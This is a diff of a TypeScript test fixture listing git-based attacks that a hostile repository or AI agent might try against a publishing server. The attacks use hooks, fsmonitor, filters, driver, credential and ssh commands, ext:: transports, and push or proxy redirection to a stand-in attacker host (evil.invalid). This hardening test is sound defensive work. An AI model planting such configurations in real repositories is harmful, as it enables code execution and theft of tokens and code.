@@ -4,16 +4,16 @@ import type { Entry } from '../workspaces/world.ts';
 import type { Arena } from './git-arena.ts';
 
 /**
- * What a repository or an agent does to make the server's git run a program, tell the token, publish what it must not,
- * or stop. None of it may come about; nothing but a few keep the honest work of the ticket from being published.
+ * An attack of a repository or an agent that tries to make the server's git run a program, reveal the token, publish
+ * something else, or stop. Unless the server refuses, it must still publish the legitimate changes.
  */
 export type GitAttack = {
   name: string;
-  /** What the hostile repository holds before anybody has a workspace of it. */
+  /** Files of the hostile repository. */
   upstream?: readonly Entry[];
-  /** What the agent does in its workspace. */
+  /** Actions of the agent in its workspace. */
   plant?(arena: Arena): Promise<unknown> | unknown;
-  /** The server refuses to go on, with this code. */
+  /** Error code, when the server refuses the operation. */
   refused?: string;
 };
 
@@ -23,37 +23,40 @@ const RELAY = 'https://github.com/';
 
 export const GIT_ATTACKS: readonly GitAttack[] = [
   ...[...HOOKS, ...REF_HOOKS].map((hook) => ({
-    name: `the hook ${hook}`,
+    name: `the hook ${hook} is a program`,
     plant: async ({ gitDir, program }: Arena) => {
       await mkdir(join(gitDir, 'hooks'), { recursive: true });
       await symlink(program, join(gitDir, 'hooks', hook));
     },
   })),
   {
-    name: 'hooks in a folder of the workspace',
+    name: 'the configuration moves hooks to a folder of the workspace',
     plant: async ({ config, workspace, program }) => {
       await mkdir(join(workspace, 'hooks'));
       await symlink(program, join(workspace, 'hooks/pre-commit'));
       await config('[core]\n\thooksPath = hooks');
     },
   },
-  { name: 'a file system monitor', plant: ({ config, program }) => config(`[core]\n\tfsmonitor = ${program}`) },
   {
-    name: 'a configuration that includes another',
+    name: 'the configuration sets a file system monitor',
+    plant: ({ config, program }) => config(`[core]\n\tfsmonitor = ${program}`),
+  },
+  {
+    name: 'the configuration includes another file',
     plant: async ({ config, write, program }) => {
       await write('included', `[core]\n\tfsmonitor = ${program}\n`);
       await config('[include]\n\tpath = ../included');
     },
   },
   {
-    name: 'the configuration of a work tree',
+    name: 'the configuration of the worktree sets a file system monitor',
     plant: async ({ config, gitDir, program }) => {
       await config('[extensions]\n\tworktreeConfig = true');
       await writeFile(join(gitDir, 'config.worktree'), `[core]\n\tfsmonitor = ${program}\n`);
     },
   },
   {
-    name: 'a .git that is a link',
+    name: '.git is a link',
     plant: async ({ gitDir, outside, config, program }) => {
       await config(`[core]\n\tfsmonitor = ${program}`);
       await rename(gitDir, join(outside, 'repository'));
@@ -61,110 +64,107 @@ export const GIT_ATTACKS: readonly GitAttack[] = [
     },
   },
   {
-    name: 'a .git that names another folder',
+    name: '.git is a file that names another folder',
     plant: async ({ gitDir, outside, config, program }) => {
       await config(`[core]\n\tfsmonitor = ${program}`);
       await rename(gitDir, join(outside, 'repository'));
       await writeFile(gitDir, `gitdir: ${join(outside, 'repository')}\n`);
     },
   },
+  { name: 'the worktree is another folder', plant: ({ config, outside }) => config(`[core]\n\tworktree = ${outside}`) },
   {
-    name: 'a work tree elsewhere',
-    plant: ({ config, outside }) => config(`[core]\n\tworktree = ${outside}`),
-  },
-  {
-    name: 'a filter that cleans',
+    name: 'a clean filter is a program',
     plant: async ({ config, write, program }) => {
       await write('.gitattributes', '* filter=x\n');
       await config(`[filter "x"]\n\tclean = ${program}`);
     },
   },
   {
-    name: 'a filter that smudges',
+    name: 'a smudge filter is a program',
     plant: async ({ config, write, program }) => {
       await write('.gitattributes', '* filter=x\n');
       await config(`[filter "x"]\n\tsmudge = ${program}`);
     },
   },
   {
-    name: 'a filter that is a process',
+    name: 'a filter is a long-running process',
     plant: async ({ config, write, program }) => {
       await write('.gitattributes', '* filter=x\n');
       await config(`[filter "x"]\n\tprocess = ${program}`);
     },
   },
   {
-    name: 'a filter of the machine, asked for by the repository',
+    name: 'the repository selects a filter of the machine',
     upstream: [{ path: '.gitattributes', content: '* filter=lfs diff=lfs merge=lfs -text\n' }],
   },
   {
-    name: 'a filter of the machine, asked for by the agent',
+    name: 'the agent selects a filter of the machine',
     plant: ({ write }) => write('.gitattributes', '* filter=lfs\n'),
   },
   {
-    name: 'a driver that merges',
+    name: 'a merge driver is a program',
     plant: async ({ config, write, program }) => {
       await write('.gitattributes', '* merge=x\n');
       await config(`[merge "x"]\n\tdriver = ${program} %A`);
     },
   },
-  { name: 'an external diff', plant: ({ config, program }) => config(`[diff]\n\texternal = ${program}`) },
+  { name: 'an external diff is a program', plant: ({ config, program }) => config(`[diff]\n\texternal = ${program}`) },
   {
-    name: 'a diff that converts to text',
+    name: 'a textconv filter is a program',
     plant: async ({ config, write, program }) => {
       await write('.gitattributes', '* diff=x\n');
       await config(`[diff "x"]\n\ttextconv = ${program}`);
     },
   },
   {
-    name: 'a diff with a command',
+    name: 'a diff driver is a program',
     plant: async ({ config, write, program }) => {
       await write('.gitattributes', '* diff=x\n');
       await config(`[diff "x"]\n\tcommand = ${program}`);
     },
   },
   {
-    name: 'a program that signs',
+    name: 'the signing program is replaced',
     plant: ({ config, program }) => config(`[commit]\n\tgpgSign = true\n[gpg]\n\tprogram = ${program}`),
   },
   {
-    name: 'a program that finds the key to sign with',
+    name: 'the command for the signing key is a program',
     plant: ({ config, program }) =>
       config(`[commit]\n\tgpgSign = true\n[gpg]\n\tformat = ssh\n[gpg "ssh"]\n\tdefaultKeyCommand = ${program}`),
   },
   {
-    name: 'a helper for credentials',
+    name: 'a credential helper is a program',
     plant: ({ config, program }) => config(`[credential]\n\thelper = ${program}`),
   },
   {
-    name: 'a command for ssh',
+    name: 'the ssh command is replaced',
     plant: ({ config, program }) =>
       config(`[core]\n\tsshCommand = ${program}\n[remote "origin"]\n\tpushurl = ssh://git@evil.invalid/x`),
   },
   {
-    name: 'an address that becomes ssh',
+    name: 'a URL is rewritten to ssh',
     plant: ({ config, program, upstream }) =>
       config(`[core]\n\tsshCommand = ${program}\n${rewrite('ssh://git@evil.invalid/', 'insteadOf', upstream)}`),
   },
   {
-    name: 'a transport that is a program',
+    name: 'the push URL is a program',
     plant: ({ config, program }) =>
       config(`[protocol "ext"]\n\tallow = always\n[remote "origin"]\n\tpushurl = ext::${program} %S`),
   },
   {
-    name: 'an address that becomes a program',
+    name: 'a URL is rewritten to a program',
     plant: ({ config, program, upstream }) =>
       config(`[protocol "ext"]\n\tallow = always\n${rewrite(`ext::${program} `, 'insteadOf', upstream)}`),
   },
   {
-    name: 'a local remote with a program that receives',
+    name: 'the receive-pack of a local remote is a program',
     plant: async ({ config, outside, program, git }) => {
       git('init', '--quiet', '--bare', join(outside, 'bare'));
       await config(`[remote "origin"]\n\tpushurl = ${join(outside, 'bare')}\n\treceivepack = ${program}`);
     },
   },
   {
-    name: 'a command for the refs of alternates',
+    name: 'the command for refs of alternates is a program',
     plant: async ({ config, gitDir, outside, program, git }) => {
       git('clone', '--quiet', '--bare', gitDir, join(outside, 'alternate'));
       await writeFile(join(gitDir, 'objects/info/alternates'), `${join(outside, 'alternate/objects')}\n`);
@@ -172,7 +172,7 @@ export const GIT_ATTACKS: readonly GitAttack[] = [
     },
   },
   {
-    name: 'an object that is to be fetched by a program',
+    name: 'a promisor remote fetches an object by a program',
     plant: async ({ config, outside, program, git }) => {
       git('init', '--quiet', '--bare', join(outside, 'promisor'));
       git('update-index', '--add', '--cacheinfo', `100644,${'1'.repeat(40)},lazy.txt`);
@@ -182,72 +182,72 @@ export const GIT_ATTACKS: readonly GitAttack[] = [
     },
   },
   {
-    name: 'an address that becomes another',
-    plant: ({ config, evil, upstream }) => config(rewrite(`${evil}/`, 'insteadOf', upstream)),
+    name: "a URL is rewritten to the attacker's server",
+    plant: ({ config, attacker, upstream }) => config(rewrite(`${attacker}/`, 'insteadOf', upstream)),
   },
   {
-    name: 'an address that becomes another for a push',
-    plant: ({ config, evil, upstream }) => config(rewrite(`${evil}/`, 'pushInsteadOf', upstream)),
+    name: "a push URL is rewritten to the attacker's server",
+    plant: ({ config, attacker, upstream }) => config(rewrite(`${attacker}/`, 'pushInsteadOf', upstream)),
   },
   {
-    name: 'another address for a push',
-    plant: ({ config, evil }) => config(`[remote "origin"]\n\tpushurl = ${evil}/acme/widgets.git`),
+    name: "the push URL is the attacker's server",
+    plant: ({ config, attacker }) => config(`[remote "origin"]\n\tpushurl = ${attacker}/acme/widgets.git`),
   },
   {
-    name: 'another remote',
-    plant: ({ git, evil }) => git('remote', 'set-url', 'origin', `${evil}/acme/widgets.git`),
-  },
-  { name: 'a proxy', plant: ({ config, evil }) => config(`[http]\n\tproxy = ${evil}`) },
-  {
-    name: 'a proxy for one address',
-    plant: ({ config, evil, upstream }) =>
-      config([upstream, RELAY].map((address) => `[http "${address}"]\n\tproxy = ${evil}`).join('\n')),
+    name: "the remote is the attacker's server",
+    plant: ({ git, attacker }) => git('remote', 'set-url', 'origin', `${attacker}/acme/widgets.git`),
   },
   {
-    name: 'cookies that overwrite a file',
+    name: "the HTTP proxy is the attacker's server",
+    plant: ({ config, attacker }) => config(`[http]\n\tproxy = ${attacker}`),
+  },
+  {
+    name: "the HTTP proxy for one URL is the attacker's server",
+    plant: ({ config, attacker, upstream }) =>
+      config([upstream, RELAY].map((address) => `[http "${address}"]\n\tproxy = ${attacker}`).join('\n')),
+  },
+  {
+    name: 'the cookie file overwrites a file outside',
     plant: ({ config, outside }) =>
       config(`[http]\n\tcookieFile = ${join(outside, 'secret.txt')}\n\tsaveCookies = true`),
   },
-  { name: 'a push that mirrors', plant: ({ config }) => config('[remote "origin"]\n\tmirror = true') },
+  { name: 'a push mirrors all refs', plant: ({ config }) => config('[remote "origin"]\n\tmirror = true') },
   {
-    name: 'a push to the default branch',
+    name: 'a push configuration overwrites the default branch',
     plant: ({ config, branch }) =>
       config(`[remote "origin"]\n\tpush = +refs/heads/${branch}:refs/heads/main\n\tpush = refs/heads/${branch}`),
   },
   {
-    name: 'a push of tags',
+    name: 'a push includes tags',
     plant: async ({ config, git }) => {
       git('tag', '--annotate', '--message', 'x', 'v9');
       await config('[push]\n\tfollowTags = true');
     },
   },
   {
-    name: 'a branch that is the default one',
+    name: 'HEAD is the default branch',
     plant: async ({ gitDir, git, branch }) => {
       git('branch', '--quiet', '--force', 'main', branch);
       await writeFile(join(gitDir, 'HEAD'), 'ref: refs/heads/main\n');
     },
   },
   {
-    name: 'another author',
+    name: 'the configuration sets another author',
     plant: ({ config }) => config('[user]\n\tname = Forged\n\temail = forged@example.org'),
   },
-  { name: 'files that git is to overlook', plant: ({ gitDir }) => writeFile(join(gitDir, 'info/exclude'), '*\n') },
+  { name: '`info/exclude` hides all files', plant: ({ gitDir }) => writeFile(join(gitDir, 'info/exclude'), '*\n') },
   {
-    name: 'files that git is to take for unchanged',
+    name: 'a file is marked as unchanged',
     plant: ({ git }) => git('update-index', '--assume-unchanged', 'shared.txt'),
   },
+  { name: 'a file is marked as skipped', plant: ({ git }) => git('update-index', '--skip-worktree', 'shared.txt') },
+  { name: 'a stale lock blocks the index', plant: ({ gitDir }) => writeFile(join(gitDir, 'index.lock'), '') },
   {
-    name: 'files that git is to skip',
-    plant: ({ git }) => git('update-index', '--skip-worktree', 'shared.txt'),
-  },
-  { name: 'a lock that nobody holds', plant: ({ gitDir }) => writeFile(join(gitDir, 'index.lock'), '') },
-  {
-    name: 'an encoding that no file has',
+    name: 'attributes set a wrong encoding',
     plant: ({ write }) => write('.gitattributes', '* working-tree-encoding=UTF-32\n'),
   },
   {
-    name: 'a repository in the workspace that the index names',
+    name: 'the index has a nested repository',
     plant: async (arena) => {
       await nestedRepository(arena, 'nested');
       arena.git('-c', 'advice.addEmbeddedRepo=false', 'add', 'nested');
@@ -256,7 +256,7 @@ export const GIT_ATTACKS: readonly GitAttack[] = [
     },
   },
   {
-    name: 'a repository in a repository in the workspace',
+    name: 'a nested repository contains another',
     plant: async (arena) => {
       await nestedRepository(arena, 'nested');
       await nestedRepository(arena, 'nested/inner');
@@ -267,7 +267,7 @@ export const GIT_ATTACKS: readonly GitAttack[] = [
     },
   },
   {
-    name: 'a repository in the place of a submodule',
+    name: 'a repository replaces a submodule',
     upstream: [
       { path: '.gitmodules', content: '[submodule "sub"]\n\tpath = sub\n\turl = https://evil.invalid/sub\n' },
       { path: 'sub', mode: '160000', content: '2'.repeat(40) },
@@ -280,7 +280,7 @@ export const GIT_ATTACKS: readonly GitAttack[] = [
     },
   },
   {
-    name: 'a workspace that is a link',
+    name: 'the workspace is a link',
     plant: async ({ workspace, gitDir, outside }) => {
       await cp(gitDir, join(outside, '.git'), { recursive: true });
       await rename(workspace, `${workspace}.moved`);
@@ -289,7 +289,7 @@ export const GIT_ATTACKS: readonly GitAttack[] = [
     refused: 'workspace_tampered',
   },
   {
-    name: 'names that some file systems take for .git',
+    name: 'names are equivalent to .git on some file systems',
     plant: async ({ write, program }) => {
       for (const folder of ['.GIT', 'git~1', '.g\u200cit', '.git ', '.git.']) {
         await write(`${folder}/config`, `[core]\n\tfsmonitor = ${program}\n`);
@@ -302,7 +302,7 @@ function rewrite(to: string, kind: 'insteadOf' | 'pushInsteadOf', upstream: stri
   return `[url "${to}"]\n\t${kind} = ${upstream}/\n\t${kind} = ${RELAY}`;
 }
 
-/** A repository of its own with one commit, in a folder of the workspace. */
+/** Creates a repository with one commit in a folder of the workspace. */
 async function nestedRepository({ git, write }: Arena, folder: string): Promise<void> {
   await write(`${folder}/file.txt`, 'file\n');
   git('init', '--quiet', folder);
